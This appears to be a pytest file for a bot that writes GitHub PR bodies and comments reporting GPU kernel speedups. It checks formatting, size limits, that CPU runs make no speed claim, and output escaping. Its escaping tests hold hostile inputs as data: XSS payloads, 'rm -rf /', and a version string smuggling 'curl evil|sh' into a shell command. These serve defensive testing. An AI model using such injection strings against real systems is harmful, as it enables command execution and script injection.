"""bot/body.py and templates/pr_body.md.j2: the follow-up PR body, the no-PR comment, the job summary."""

from __future__ import annotations

import dataclasses
import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from test_bot_artifact import ALLOWED, H200, demo_results

import kernelpro
from kernelpro.bot.artifact import CurvePoint, Finding, Results, WorkloadTiming, load_results
from kernelpro.bot.body import (
    BODY_LIMIT,
    NOT_MEASURED,
    code_block,
    md,
    render_body,
    render_job_summary,
    render_no_pr_comment,
)

SHA = "0123456789abcdef0123456789abcdef01234567"
RUN = "https://github.com/acme/kernels/actions/runs/42"


def body(results: Results, run_url: str | None = RUN) -> str:
    return render_body(results, pr_number=7, head_sha=SHA, run_url=run_url, kernelpro_version="0.1.0",
                       programmer="llm", model="gpt-test")


@pytest.fixture(scope="module")
def gpu() -> Results:
    return load_results(H200, allowed_files=ALLOWED)


@pytest.fixture(scope="module")
def cpu(tmp_path_factory: pytest.TempPathFactory) -> Results:
    return load_results(demo_results(tmp_path_factory), allowed_files=ALLOWED)


def test_gpu_body_has_every_field(gpu: Results) -> None:
    b = body(gpu)
    assert len(b) < BODY_LIMIT
    for text in [
        "faster kernels for #7",
        "`swiglu` **3.55x** faster, verified",  # headline
        "0.3545 ms geometric mean",  # baseline time
        "0.1000 ms geometric mean",  # best time
        "0.1800 (0.1791-0.1810)",
        "0.0529 (0.0517-0.0539)",  # spread p10-p90
        "3.40x (3.33x-3.50x)",
        "gamma = 1.03",
        "5 fresh seeded input set(s)",  # speedup and gate
        "| base branch | not timed",
        "PR's kernel at 26-27 % of the roofline floor, the winner at 90-100 %",  # roofline position
        "**memory-bound**",  # Stage 1 class
        "**[critical]** 74% of stall cycles",
        "**[high]** Global loads are scalar",  # findings
        "Tolerances: float32 atol=1e-05 rtol=1e-05",
        "1.91e-06",
        "4.42e-07",
        "```mermaid\nxychart-beta",
        "line [1.000, 1.000, 3.413",  # chart
        "mcts, 16 evaluation(s) (PASSED 16), 246 s",  # search statistics
        "gh run download 42 -R acme/kernels --pattern 'kernelpro-result-*' --dir kernelpro-results",
        "kernelpro evaluate --definition definition.json --solution solution.json --baseline baseline.json",
        "the final gate re-measured the winner side by side at **3.55x**",  # the chart says what it shows
        "kernelpro 0.1.0",
        "programmer: llm, model: gpt-test",
        "GPU NVIDIA\\_H200",
        "driver not recorded",
        "torch 2.11.0+cu130",
        "triton 3.6.0",
        SHA,  # provenance
        f"[results artifact]({RUN}#artifacts)",
        "<details><summary>Timings per workload",
    ]:
        assert text in b, text
    assert "not GPU timings" not in b
    # No noise: empty header cells, seed lists, internal stage names, "not measured" for energy that was off.
    assert "| | " not in b and "| seeds |" not in b and "Time by stage" not in b and NOT_MEASURED not in b
    assert "<run-id>" not in b and "<artifact>" not in b and "<base>" not in b
    assert "**Shapes not measured:** the change applies to every call of these kernels" in b
    with_base = render_body(gpu, pr_number=7, head_sha=SHA, run_url=RUN, kernelpro_version="0.1.0",
                            programmer="llm", model=None, base_sha="f" * 40)
    assert f"kernelpro optimize --repo . --base {'f' * 40} --head {SHA} --kernel swiglu" in with_base
    assert b.count("<details>") == b.count("</details>")
    assert b.count("```") % 2 == 0


def test_base_branch_regression_is_reported(gpu: Results) -> None:
    from kernelpro.bot.artifact import BaseBranch

    t = dataclasses.replace(gpu.targets[0], base_branch=BaseBranch("PASSED", 1.25))
    b = body(dataclasses.replace(gpu, targets=(t,)))
    assert (
        "**the PR made this kernel slower**: its kernel runs at 0.80x the speed of the base branch's"
        in b
    )
    assert "base branch ≈ 0.2836 ms geometric mean (derived)" in b


def test_energy_shown_when_measured(gpu: Results) -> None:
    t = gpu.targets[0]
    assert t.winner is not None
    wl = tuple(
        dataclasses.replace(w, baseline_energy_j=0.012, candidate_energy_j=0.004)
        for w in t.winner.workloads
    )
    t = dataclasses.replace(t, winner=dataclasses.replace(t.winner, workloads=wl))
    b = body(dataclasses.replace(gpu, targets=(t,)))
    assert "M=4096: 12.000 mJ -> 4.000 mJ" in b and NOT_MEASURED not in b


def test_cpu_demo_carries_the_warning(cpu: Results) -> None:
    b = body(cpu, run_url=None)
    assert "**These timings are not GPU timings.**" in b
    assert "(not GPU timings)" in b
    assert "the results artifact of this workflow run" in b
    assert "not measured (no GPU)" in b
    assert "not GPU timings" in render_job_summary(cpu)


def _edited(tmp_path: Path, edit: Callable[[dict[str, Any]], None]) -> Path:
    """A writable copy of the recorded H200 results with ``edit`` applied to its first target."""
    d = tmp_path / "r"
    shutil.copytree(H200, d)
    for p in d.rglob("*"):
        p.chmod(0o755 if p.is_dir() else 0o644)
    data = json.loads((d / "summary.json").read_text())
    edit(data["targets"][0])
    (d / "summary.json").write_text(json.dumps(data))
    return d


def _hostile(gpu: Results, tmp_path: Path) -> Results:
    return load_results(_edited(tmp_path, _hostile_text), allowed_files=ALLOWED)


def _hostile_text(t: dict[str, Any]) -> None:
    t["stop_reason"] = "budget\x1b[31m spent\x00\x07\u202e\r\n## injected heading"
    t["baseline_analysis"]["findings"][0]["title"] = (
        "<script>alert(1)</script> @octocat `rm -rf /` | col ```"
    )
    t["winner"]["lineage"] = ["<img src=x onerror=alert(1)> cc @acme/team [x](javascript:alert(1))"]
    t["winner"]["workloads"][0]["axes"] = {"M": "4096</details><b>"}


def test_hostile_text_is_escaped(gpu: Results, tmp_path: Path) -> None:
    r = _hostile(gpu, tmp_path)
    outputs = [body(r), render_job_summary(r)]
    t = r.targets[0]
    no_win = dataclasses.replace(t, winner=None, patch="", patch_files=())
    outputs.append(render_no_pr_comment(dataclasses.replace(r, targets=(no_win,))))
    for out in outputs:
        assert "<script" not in out and "<img" not in out and "<b>" not in out
        assert "@octocat" not in out and "@acme/team" not in out
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e]", out)
        assert "\n## injected" not in out
        assert "`rm -rf" not in out
    b = outputs[0]
    assert (
        "&lt;script&gt;alert\\(1\\)&lt;/script&gt; @&#8203;octocat &#96;rm -rf /&#96; \\| col" in b
    )
    stopped = next(line for line in b.splitlines() if "stopped:" in line)
    assert "stopped: budget\\[31m spent \\#&#8203;\\#&#8203; injected heading" in stopped
    assert b.count("<details>") == b.count("</details>")
    assert "(gh run download" not in b


def test_md_and_code_block() -> None:
    assert md("a\x1bb\nc", 100) == "ab c"
    assert md("x" * 50, 10) == "x" * 9 + "…"
    assert md("@user") == "@&#8203;user"
    block = code_block("a\n```\nb", "diff")
    assert block.startswith("````diff\n") and block.endswith("\n````")


def test_size_limit_drops_parts_in_order(gpu: Results) -> None:
    t = gpu.targets[0]
    assert t.winner is not None
    # One kernel with a huge curve: only the chart goes, the tables stay.
    curve = tuple(CurvePoint(i, 1.0 + i / 1e4, "PASSED") for i in range(1, 10_001))
    big_curve = dataclasses.replace(
        t, curve=curve, seconds_by_stage=tuple((f"s{i}" * 20, 1.0) for i in range(256))
    )
    b = body(dataclasses.replace(gpu, targets=(big_curve,)))
    assert len(b) <= BODY_LIMIT
    assert "xychart-beta" in b  # sampled down, it fits
    # Artificially huge: 256 kernels, each with 1000 workloads and long findings.
    wl = tuple(
        dataclasses.replace(t.winner.workloads[0], uuid=f"w{i}", axes=f"M={i}") for i in range(1000)
    )
    findings = tuple(Finding("tool", "high", "t" * 1000, "", "ncu") for _ in range(300))
    huge = dataclasses.replace(
        t, winner=dataclasses.replace(t.winner, workloads=wl), findings=findings, curve=curve
    )
    targets = tuple(dataclasses.replace(huge, name=f"kernel{i}") for i in range(256))
    b = body(dataclasses.replace(gpu, targets=targets))
    assert len(b) <= BODY_LIMIT
    assert "## kernelpro: faster kernels for #7" in b
    assert f"[results artifact]({RUN}#artifacts)" in b
    assert "Left out to stay under GitHub's 65,536-character limit" in b
    assert "`kernel0` | **3.55x** faster, verified" in b
    assert b.strip().endswith("</sub>")
    # Middle case: workloads and findings go, the per-kernel sections stay.
    few = tuple(dataclasses.replace(huge, name=f"kernel{i}") for i in range(3))
    b = body(dataclasses.replace(gpu, targets=few))
    assert len(b) <= BODY_LIMIT
    assert "the best-speedup-by-evaluation charts; the per-workload" in b
    assert "### `kernel2`: 3.55x faster" in b and "<details><summary>Reproduce" in b


def test_no_pr_comment(gpu: Results) -> None:
    t = gpu.targets[0]
    from kernelpro.bot.artifact import Gate

    lost = dataclasses.replace(t, winner=None, patch="", patch_files=(), stop_reason="budget spent",
                               gates=(Gate("swiglu-abc", False, 1.01, "slower than 1.03x on M=4096"),))
    c = render_no_pr_comment(dataclasses.replace(gpu, targets=(lost,)), run_url=RUN)
    assert "the baseline stands" in c
    assert "| `swiglu` | the baseline stands | n/a | 26-27 % (PR's kernel) |" in c
    assert "- `swiglu`: budget spent; failed the final gate: swiglu-abc (slower than 1.03x on M=4096)" in c
    assert f"({RUN}#artifacts)" in c and f"[Workflow run]({RUN})" in c
    assert len(c) <= BODY_LIMIT
    # Faster in the search but under the gate's gamma, so optimize gated none (runner/optimize.py): said so,
    # not "no candidate beat the PR's kernel"; a result.json without gamma (older runner) keeps the old words.
    under = dataclasses.replace(lost, gates=(), gamma=1.03, curve=(CurvePoint(1, 1.0, "PASSED"), CurvePoint(2, 1.0093, "PASSED")))
    c = render_no_pr_comment(dataclasses.replace(gpu, targets=(under,)), run_url=RUN)
    assert "- `swiglu`: budget spent; the best candidate was 1.01x in the search, under the final gate's 1.03x, so no gate ran" in c
    old = render_no_pr_comment(dataclasses.replace(gpu, targets=(dataclasses.replace(under, gamma=None),)), run_url=RUN)
    assert "- `swiglu`: budget spent; no candidate passed verification and beat the PR's kernel" in old


def test_summary_comment_is_a_full_report(gpu: Results, cpu: Results) -> None:
    """The final sticky comment: verdict, speedup with range, % of floor, PR vs base, links."""
    from kernelpro.bot.body import render_summary_comment

    pr_url = "https://github.com/acme/kernels/pull/9"
    c = render_summary_comment(gpu, pr_number=7, head_sha=SHA, base_sha="f" * 40, pr_url=pr_url, run_url=RUN)
    assert "**kernelpro makes `swiglu` 3.55x faster**" in c
    assert "Comparing #7 (`0123456789ab`) with its base (`ffffffffffff`)" in c
    assert "| `swiglu` | faster, verified | **3.55x** (3.33x-3.77x) | 90-100 % | no different version on the base branch |" in c
    assert f"**Follow-up pull request:** {pr_url}" in c and f"({RUN}#artifacts)" in c
    assert "energy" not in c.split("| kernel |", 1)[1].split("\n", 1)[0]  # no energy column when not measured
    assert "not GPU timings" not in c
    # Energy, when measured: a column with the geometric mean of the per-call energy ratios.
    t = gpu.targets[0]
    assert t.winner is not None
    w = dataclasses.replace(t.winner, workloads=tuple(dataclasses.replace(x, energy_ratio=r)
                                                      for x, r in zip(t.winner.workloads, (0.5, 0.32), strict=True)))
    e = render_summary_comment(dataclasses.replace(gpu, targets=(dataclasses.replace(t, winner=w),)), pr_number=7,
                               head_sha=SHA, pr_url=pr_url, run_url=RUN)
    assert "| PR vs base branch |" in e and "| energy |" in e and "| x0.40 per call (NVML) |" in e
    # Without a GPU: no speed claim in the headline, and the caveat.
    c = render_summary_comment(cpu, pr_number=7, head_sha=SHA, pr_url=pr_url, run_url=RUN)
    assert "faster**" not in c and "CPU interpreter" in c and "**These timings are not GPU timings.**" in c
    assert "verified; CPU interpreter timing" in c


def test_title_claims_no_speed_without_a_gpu(gpu: Results, cpu: Results) -> None:
    from kernelpro.bot.publish import title_for

    assert title_for(gpu, 7) == "kernelpro: 3.55x faster swiglu for #7"
    t = title_for(cpu, 7)
    assert "faster" not in t and "CPU interpreter" in t and t.endswith("(CPU interpreter, GPU speed unknown)")


def test_job_summary(gpu: Results) -> None:
    s = render_job_summary(gpu)
    assert "| `swiglu` | **3.55x** faster, verified | 16 | NVIDIA\\_H200 | budget spent |" in s


def test_wrong_head_sha_is_not_echoed(gpu: Results) -> None:
    b = render_body(gpu, pr_number=7, head_sha="`; rm -rf / #", run_url="javascript:alert(1)",
                    kernelpro_version="0.1.0", programmer="tuner", model=None)
    assert "rm -rf" not in b and "javascript:" not in b and "unknown" in b


def test_workload_timing_fields_documented() -> None:
    # Every field of the data classes has a doc line (the body is built from these names).
    import inspect

    src = Path(inspect.getsourcefile(WorkloadTiming) or "").read_text()  # kernelpro/schema.py
    for f in dataclasses.fields(WorkloadTiming):
        assert re.search(rf"    {f.name}: .*\n    \"\"\"", src), f.name


def _with_memcheck(tmp_path: Path, memcheck: object) -> Path:
    return _edited(tmp_path, lambda t: t["winner"].__setitem__("memcheck", memcheck))


@pytest.mark.parametrize(("memcheck", "said"), [
    ({"status": "clean", "errors": 0, "detail": ""}, "compute-sanitizer memcheck found no memory errors"),
    ({"status": "not run", "errors": 0, "detail": "compute-sanitizer not found"}, "memcheck was not run"),
    (None, None),  # a CPU run, or results from before memcheck: nothing claimed
])
def test_the_body_says_what_memcheck_found(tmp_path: Path, memcheck: object, said: str | None) -> None:
    text = body(load_results(_with_memcheck(tmp_path, memcheck), allowed_files=ALLOWED))
    assert (said in text) if said else ("memcheck" not in text)


def test_a_winner_with_memcheck_errors_is_not_a_winner(tmp_path: Path) -> None:
    from kernelpro.bot.artifact import ArtifactError

    with pytest.raises(ArtifactError, match="memcheck"):
        load_results(_with_memcheck(tmp_path, {"status": "errors", "errors": 3, "detail": "x"}), allowed_files=ALLOWED)


def test_base_branch_comparison_shows_its_side_by_side_range(gpu: Results) -> None:
    from kernelpro.bot.artifact import BaseBranch

    # Within the margin by the runner's reading, even though the bare ratio alone would be 4 % off.
    t = dataclasses.replace(gpu.targets[0], base_branch=BaseBranch("PASSED", 1.04, 0.97, 1.12, "on par", 0.15))
    b = body(dataclasses.replace(gpu, targets=(t,)))
    assert ("the PR's kernel is on par with the base branch's (0.96x (0.89x-1.03x, measured side by side: head, "
            "base, head)): no difference beyond the margin") in b
    t = dataclasses.replace(t, base_branch=BaseBranch("PASSED", None, verdict="not compared"))
    assert "not compared: a kernel failed when the two were re-measured side by side" in body(
        dataclasses.replace(gpu, targets=(t,)))
    # Liger's RMSNorm on the H200 (session 26): medians 4x apart, runs overlapping. Not "faster".
    t = dataclasses.replace(t, base_branch=BaseBranch("PASSED", 0.2493, 0.1393, 2.187, "uncertain", 0.356))
    b = body(dataclasses.replace(gpu, targets=(t,)))
    assert "no difference established: the medians put the PR's kernel at 4.01x (0.46x-7.18x" in b
    assert "faster" not in b.split("no difference established")[1].split("\n")[0]


def test_the_summary_comment_counts_a_models_use_of_its_provider(tmp_path: Path) -> None:
    """Issue 21: the PR comment names the model and the provider's host and counts requests,
    tokens, retries and errors, as result.json recorded them; all of it is escaped text."""
    from kernelpro.bot.body import render_summary_comment

    def llm(t: dict[str, Any]) -> None:
        t["programmer"] = {"name": "llm", "model": "@octocat <b>gpt</b>", "host": "https://evil.example/x",
                           "requests": 12, "tokens_in": 40_000, "tokens_out": 9_000, "retries": 2, "errors": 1,
                           "answered": 11, "all_failed": False}

    c = render_summary_comment(load_results(_edited(tmp_path, llm), allowed_files=ALLOWED), pr_number=7,
                               head_sha=SHA, run_url=RUN)
    assert "12 request(s), 40000 tokens in and 9000 out, 2 retry(ies), 1 error(s)" in c
    assert "Candidates for `swiglu` were written by llm" in c
    assert "<b>" not in c and "@octocat" not in c and "https://evil" not in c
    tuner = render_summary_comment(load_results(H200, allowed_files=ALLOWED), pr_number=7, head_sha=SHA, run_url=RUN)
    assert "request(s)" not in tuner  # a tuner (or an older result.json) is not a model


def test_a_malformed_programmer_record_is_refused(tmp_path: Path) -> None:
    def bad(t: dict[str, Any]) -> None:
        t["programmer"] = {"name": "llm", "model": "m", "requests": -3}

    from kernelpro.bot.artifact import ArtifactError

    with pytest.raises(ArtifactError, match="programmer.requests"):
        load_results(_edited(tmp_path, bad), allowed_files=ALLOWED)


# --------------------------------------------------------------------------- issue 24: no speed claim without a GPU

_NOT_A_CLAIM = re.compile(r"Other shapes may be slower or faster")
"""The body's one sentence with "faster" that claims nothing (it says what was not measured)."""


def _claims_speed(text: str) -> list[str]:
    """The lines of ``text`` that call something faster."""
    return [line for line in _NOT_A_CLAIM.sub("", text).splitlines() if re.search(r"(?i)\bfaster\b", line)]


def _on_cpu(results: Results) -> Results:
    """The recorded H200 run as if timed in Triton's CPU interpreter (the demo's device), with a
    base-branch comparison the runner read as "faster": every speed word must go."""
    from kernelpro.bot.artifact import BaseBranch

    t = dataclasses.replace(results.targets[0], gpu_timings=False, hardware="cpu (Triton interpreter)", stage1=None,
                            base_branch=BaseBranch("PASSED", 0.8, 0.75, 0.85, "faster"))
    return dataclasses.replace(results, targets=(t,))


def test_a_cpu_runs_pr_body_claims_no_speed(gpu: Results) -> None:
    cpu = _on_cpu(gpu)
    b = body(cpu)
    assert _claims_speed(b) == []
    assert "## kernelpro: verified kernels for #7 (CPU interpreter, GPU speed unknown)" in b
    assert "### `swiglu`: verified correct; 3.55x in Triton's CPU interpreter, not a GPU timing" in b
    assert "`swiglu` verified correct; **3.55x** in Triton's CPU interpreter, not a GPU timing." in b  # lead
    assert "| `swiglu` | verified correct; **3.55x** in Triton's CPU interpreter, not a GPU timing |" in b
    assert "**These timings are not GPU timings.**" in b
    # With a model's patch too: the first line says what was verified, not "measured it faster".
    m = render_body(cpu, pr_number=7, head_sha=SHA, run_url=RUN, kernelpro_version="0.1.0", programmer="llm",
                    model="m", model_written=("swiglu",))
    assert _claims_speed(m) == [] and "kernelpro verified it correct" in m
    # A GPU run still says so, everywhere.
    g = body(gpu)
    for text in ("## kernelpro: faster kernels for #7", "### `swiglu`: 3.55x faster",
                 "`swiglu` **3.55x** faster, verified.", "| `swiglu` | **3.55x** faster, verified |",
                 "at least 1.03x faster than the PR's kernel"):
        assert text in g, text
    assert "measured it faster and correct" in render_body(
        gpu, pr_number=7, head_sha=SHA, run_url=RUN, kernelpro_version="0.1.0", programmer="llm", model="m",
        model_written=("swiglu",))


def test_a_cpu_runs_job_summary_claims_no_speed(gpu: Results) -> None:
    s = render_job_summary(_on_cpu(gpu), ("swiglu",))
    assert _claims_speed(s) == [] and "not GPU timings" in s
    assert "| `swiglu` | verified correct; **3.55x** in Triton's CPU interpreter, not a GPU timing | 16 |" in s
    assert "**3.55x** faster, verified" in render_job_summary(gpu)


def test_a_cpu_runs_fork_comment_claims_no_speed(gpu: Results) -> None:
    from kernelpro.bot.body import render_comment
    from kernelpro.bot.publish import _fork_comment

    cpu = _on_cpu(gpu)
    c = _fork_comment(cpu, cpu.patch, 7, head_sha=SHA, run_url=RUN)
    assert _claims_speed(c) == [], _claims_speed(c)
    assert "cannot push to" in c and "**These timings are not GPU timings.**" in c
    assert "1.25x the base's speed in the CPU interpreter" in c  # the base-branch cell: a ratio, not a verdict
    g = _fork_comment(gpu, gpu.patch, 7, head_sha=SHA, run_url=RUN)
    assert "kernelpro makes `swiglu` 3.55x faster" in g and "| faster, verified |" in g
    # The fork state's own lead: "faster" only when told the winners were timed on a GPU.
    assert "**kernelpro found a faster kernel**" in render_comment("fork", pr=7, patch="", summary="", gpu=True)
    assert _claims_speed(render_comment("fork", pr=7, patch="", summary="", gpu=False)) == []


def test_the_reproduce_block_installs_the_recorded_kernelpro(gpu: Results) -> None:
    """The repro block starts by installing the kernelpro that produced the results: the source of
    the release tag `v<recorded version>` of the repository the example workflow's `uses:` lines name
    (an archive URL, not `git+...@tag`, which reads as an e-mail address: tests/test_bot_trust.py)."""
    workflow = (Path(__file__).resolve().parents[1] / "examples" / "workflows" / "kernelpro.yml").read_text()
    (repo,) = set(re.findall(r"uses: ([^/@\s`]+/kernelpro)@", workflow))
    t = dataclasses.replace(gpu.targets[0], kernelpro_version="0.0.9")  # not this kernelpro's version
    b = body(dataclasses.replace(gpu, targets=(t,)))
    repro = b.split("<details><summary>Reproduce</summary>", 1)[1].split("</details>", 1)[0]
    install = f'python -m pip install "kernelpro[engine] @ https://github.com/{repo}/archive/refs/tags/v0.0.9.tar.gz"'
    assert repro.startswith("\n\n```bash\n" + install)  # first, before the commands that need it
    assert repro.index(install) < repro.index("gh run download") < repro.index("kernelpro evaluate")
    # A recorded version that is not a release version is not pasted into a shell command.
    bad = dataclasses.replace(t, kernelpro_version="0.1.0;curl evil|sh")
    b = body(dataclasses.replace(gpu, targets=(bad,)))
    repro = b.split("<details><summary>Reproduce</summary>", 1)[1].split("</details>", 1)[0]
    assert "curl evil" not in repro
    assert f"/archive/refs/tags/v{kernelpro.__version__}.tar.gz\"   # the results record no release version" in repro
